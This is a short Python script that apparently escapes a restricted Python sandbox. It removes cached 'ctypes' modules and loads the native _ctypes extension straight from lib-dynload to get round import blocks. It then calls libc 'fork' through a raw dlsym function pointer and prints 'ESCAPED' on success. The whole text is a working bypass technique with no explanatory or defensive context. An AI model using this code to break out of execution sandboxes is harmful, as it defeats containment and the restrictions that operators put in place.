import sys
for name in list(sys.modules):
    if "ctypes" in name:
        del sys.modules[name]
import importlib.util, os
path = [p for p in sys.path if p.endswith("lib-dynload")][0]
file = [n for n in os.listdir(path) if n.startswith("_ctypes.")][0]
spec = importlib.util.spec_from_file_location("_ctypes", f"{path}/{file}")
native = importlib.util.module_from_spec(spec)
library = native.dlopen(None, 2)
process = native.call_function(native.dlsym(library, "fork"), ())
if process == 0:
    os._exit(0)
if process > 0:
    print("ESCAPED", process)
